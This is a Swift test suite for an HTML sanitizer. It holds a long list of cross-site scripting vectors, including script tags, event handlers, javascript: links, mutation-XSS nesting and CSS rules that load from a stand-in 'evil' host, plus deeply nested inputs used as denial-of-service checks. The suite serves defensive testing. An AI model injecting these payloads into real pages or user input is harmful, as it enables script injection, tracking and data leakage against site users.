import HTMLSanitizer
import TestSupport
import Testing

@Suite("Attacks")
struct AttackTests {
    static let vectors: [String] = [
        "<script>alert(1)</script>", "<SCRIPT SRC=http://evil/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=\"javascript:alert(1)\">", "<body onload=alert(1)>x",
        "<img/src/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#x0A;script:alert(1)\">x</a>", "<a href=\"&#1;javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript&colon;alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"blob:https://x/1\">x</a>", "<a href='x' onclick='alert(1)'>x</a>",
        "<a href=\"https://x/&quot; onmouseover=&quot;alert(1)\">x</a>",
        "<iframe src=\"https://evil\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=x><applet code=x></applet>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<form action=https://evil><input name=p><button formaction=javascript:alert(1)>go</button></form>",
        "<isindex action=javascript:alert(1) type=image>", "<textarea><script>alert(1)</script></textarea>",
        "<select><option><script>alert(1)</script></select>", "<keygen autofocus onfocus=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x",
        "<svg><animate attributeName=href values=javascript:alert(1)>", "<svg><foreignObject><p onclick=x>a",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<plaintext><img src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>", "<noembed><img src=x onerror=alert(1)></noembed>",
        "<style>@import 'https://evil/x.css'; body{background:url(https://evil/b)}</style>x",
        "<style><img src=\"</style><img src=x onerror=alert(1)//\">", "<link rel=stylesheet href=https://evil/x.css>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=https://evil/><a href=x>y</a>",
        "<div style=\"width: expression(alert(1))\">x</div>", "<div style=\"width: exp/**/ression(alert(1))\">x</div>",
        "<div style=\"background: url(javascript:alert(1))\">x</div>",
        "<div style=\"background:\\75\\72\\6c(javascript:alert(1))\">x</div>",
        "<div style=\"behavior: url(x.htc); -moz-binding: url(x.xml#a)\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
        "<div style=\"color:red;}</style><script>alert(1)</script>\">x</div>",
        "<div style=\"font-family:'a\\27;background:url(https://evil)'\">x</div>",
        "<div style=\"font-family:&quot;x</style><img src=x onerror=alert(1)>&quot;\">x</div>",
        "<div style=\"background-image:url('https://evil/a')\">x</div>",
        "<div style=\"background:image-set('https://evil/a' 1x)\">x</div>",
        "<div style=\"color:var(--x);--x:url(https://evil)\">x</div>",
        "<div style='background:url(\"data:image/svg+xml;base64,PHN2Zz4=\")'>x</div>",
        "<div style=\"background:url(https://evil/a\">x</div>", "<div style=\"cursor:url(https://evil/a)\">x</div>",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<img srcset=\"https://evil/a 1x\" src=\"https://evil/b\">",
        "<picture><source srcset=https://evil/a></picture>",
        "<img src=\"//evil/a\">", "<img src=\"\\\\evil\\a\">", "<img src=\"https:/\\evil/a\">",
        "<img lowsrc=https://evil/a>",
        "<video poster=https://evil/a><source src=https://evil/b></video>", "<audio src=https://evil/a autoplay>",
        "<table background=\"https://evil/a\"><td background=\"javascript:alert(1)\">x",
        "<body background=https://evil/a>x",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!-- --!><img src=x onerror=alert(1)>",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<p id=location name=x class=\"modal open\">x</p>", "<a name=\"cookie\" id=\"document\">x</a>",
        "<img name=getElementById id=body src=cid:x>", "<custom-element onclick=alert(1)>x</custom-element>",
        "<a href=https://x target=_self rel=opener ping=https://evil>x</a>", "<p contenteditable autofocus onfocus=x>",
        "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
        "<a href=\"#top\">x</a>", "<\0script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>",
        "<img src=x onerror\u{0B}=alert(1)>", "<p title='\"><script>alert(1)</script>'>x", "</p></div></body><script>x",
        "<a href=\"https://x\" style=\"display:block;margin:-500px\">x</a>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<a href=\"https://e.x/\u{2028}onclick\">x", "<image src=x onerror=alert(1)>", "<img src=cid:unknown>",
        "<style>p{color:red}</style ><img src=x onerror=alert(1)>", "<style><!--</style><script>alert(1)</script>-->",
        "<style>a{x:'</style><img src=x onerror=alert(1)>'}</style>", "<svg><style><img src=x onerror=alert(1)>",
        "<style>*{position:fixed;inset:0}\\3c/style\\3e{}</style>", "<style>@font-face{font-family:x;src:url(//evil)}",
        "<style>p{background:url(//evil/a)} @media screen{p{background:\\75rl('http://evil/b')}}</style><p>x",
        "<style>a[href^='h']{background:url(//evil/h)} :has(a){color:red} p::after{content:url(//evil)}</style>",
        "<style>body+*,html~*,*:root~p{display:none}}}}} x{color:red}</style>",
        "<style>@media x{@media y{@media z{@media w{p{color:red}}}}}</style>", "<style>p{color:red;p{x:y}}@x{</style>",
        "<style>p{color:expression(alert(1));-moz-binding:url(//evil);behavior:url(x)}</style>",
        "<body class=x id=y style='background:url(//evil/a);position:fixed'><style>body{background:url(//evil)}",
        "<map name=m><area href=javascript:alert(1)></map><img usemap=#m>", "<dialog open>x</dialog>",
    ]

    @Test("Only what is allowed remains", arguments: vectors)
    func vector(html: String) {
        let sanitizer = HTMLSanitizer { $0 == "x" ? "/inline/x" : nil }
        let result = sanitizer.sanitize(html)
        #expect(!result.isSimplified)
        #expect(Reparse(result.fragment).violations() == [], "\(result.fragment)")
        // A second pass finds nothing more to take away.
        let again = sanitizer.sanitize(result.html).html
        #expect(Reparse(again).violations() == [])

        let allowing = HTMLSanitizer(remoteImages: .allowed) { _ in "/inline/x" }.sanitize(html)
        #expect(Reparse(allowing.fragment).violations(allowsRemote: true) == [], "\(allowing.fragment)")
        #expect(Reparse(HTMLSanitizer.plainToHTML(html)).violations() == [])
    }

    @Test("Every prefix and every pair of attacks is harmless")
    func combinations() {
        let sanitizer = HTMLSanitizer()
        for (index, vector) in Self.vectors.enumerated() {
            for end in vector.indices {
                #expect(Reparse(sanitizer.sanitize(String(vector[..<end])).html).violations() == [])
            }
            let other = Self.vectors[(index * 37 + 11) % Self.vectors.count]
            let pair = sanitizer.sanitize("<table><b>" + vector + "<p>" + other + "</b>" + vector).html
            #expect(Reparse(pair).violations() == [], "\(pair)")
        }
    }

    @Test(
        "Hostile nesting ends soon, on the small stack of a task too",
        arguments: [
            String(repeating: "<div>", count: 100_000), String(repeating: "<b>", count: 100_000),
            (0..<20_000).map { "<font size=\($0)>" }.joined() + String(repeating: "<p>x", count: 50_000),
            String(repeating: "<table><tr><td>", count: 20_000), String(repeating: "<a><b><p>", count: 30_000),
            String(repeating: "<", count: 1_000_000), String(repeating: "<svg><p>", count: 50_000),
            String(repeating: "<!--", count: 200_000), "<p " + (0..<50_000).map { "a\($0)=1 " }.joined() + ">",
            "<p style=\"" + String(repeating: "background:url(", count: 50_000),
            "<p style=\"" + String(repeating: "/*", count: 50_000), String(repeating: "&", count: 1_000_000),
            String(repeating: "<blockquote>", count: 5000) + "end",
        ])
    func nesting(html: String) async {
        let clock = ContinuousClock()
        let time = await clock.measure {
            let result = await Task { HTMLSanitizer().sanitize(html) }.value
            #expect(result.isSimplified || Reparse(String(result.html.prefix(100_000))).violations() == [])
            _ = HTMLSanitizer.htmlToText(html)
        }
        #expect(time < .seconds(20))
    }
}
